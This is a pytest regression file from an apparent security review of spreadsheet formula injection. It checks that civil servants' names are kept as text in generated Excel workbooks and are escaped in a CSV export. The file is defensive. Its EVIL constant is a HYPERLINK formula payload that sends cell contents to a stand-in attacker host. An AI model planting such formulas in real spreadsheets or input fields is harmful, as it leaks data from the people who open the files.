"""Security review 2026-11-22, M2: a civil servant's name set to =HYPERLINK(…) became a live
formula in the Form 01/02 workbooks and in the listing CSV export."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cms.spreadsheets import csv_safe, neutralise_formulas
from org.access import HOME_AFFAIRS_GROUP
from ratings.printing.form01 import build_form01
from ratings.printing.xlsx import form01_xlsx
from scoring.services import score_person
from tests.factories import UserFactory
from tests.scoring.helpers import build_world

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


def formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.fixture
def evil_person():
    world = build_world()
    person = world.person(EVIL)
    world.line(person, "X", 2, 2)
    world.marks(person, 27)
    return world, person, score_person(person, world.period)


def test_form01_workbooks_keep_the_name_as_text(evil_person):
    from importers.exports.form01 import build_form01 as export_form01

    world, _person, score = evil_person
    printed = form01_xlsx(build_form01(score))
    exported = export_form01(world.department, world.period)
    for data in (printed, exported):
        assert not formulas(data)
        texts = [
            cell.value
            for sheet in load_workbook(io.BytesIO(data)).worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
        assert EVIL in texts  # the text itself is kept exactly


def test_listing_csv_export_escapes_the_formula(client, evil_person):
    client.force_login(UserFactory(groups=[HOME_AFFAIRS_GROUP]))
    response = client.get(reverse("wagtailsnippets_org_civilservant:list") + "?export=csv")
    body = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in body
    assert '\n"=HYPERLINK' not in body and ",=HYPERLINK" not in body and ',"=HYPERLINK' not in body


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        (-2, -2),
        (None, None),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_neutralise_formulas_keeps_the_value():
    book = Workbook()
    book.active["A1"] = EVIL
    assert book.active["A1"].data_type == "f"
    neutralise_formulas(book)
    assert book.active["A1"].data_type == "s" and book.active["A1"].value == EVIL
